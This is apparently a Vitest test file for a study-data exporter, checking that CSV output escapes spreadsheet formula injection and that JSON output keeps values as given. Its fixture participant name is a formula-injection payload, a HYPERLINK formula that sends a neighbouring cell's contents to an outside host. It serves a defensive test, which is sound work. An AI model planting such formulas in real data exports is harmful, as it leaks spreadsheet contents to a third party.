import { expect, it, vi } from "vitest";
import { csvFile, jsonFile } from "./answer-files";
import type { StoredParticipation } from "./participation";

// jsPsych looks for a window when it is imported.
vi.hoisted(() => vi.stubGlobal("window", globalThis));

const participant = '=HYPERLINK("http://a.b/?"&B2,"ok")';

const participation: StoredParticipation = {
  ...{ key: "k", at: 0, participant, seed: 1, study: "+hash", title: "@title", trials: 1, simulated: false },
  rows: [{ participant, study: "@title", left: "-id", heading: -30, response: "left" }],
};

it("lets no spreadsheet compute the name of a participant or the ids of a study", () => {
  const [header, row] = csvFile([participation]).text.split("\r\n");
  expect(header).toBe('"participant","study","left","heading","response"');
  expect(row).toBe(`"'=HYPERLINK(""http://a.b/?""&B2,""ok"")","'@title","'-id","-30","left"`);
});

it("writes names into JSON as they are", () => {
  expect(JSON.parse(jsonFile([participation]).text)[0].participant).toBe(participant);
});
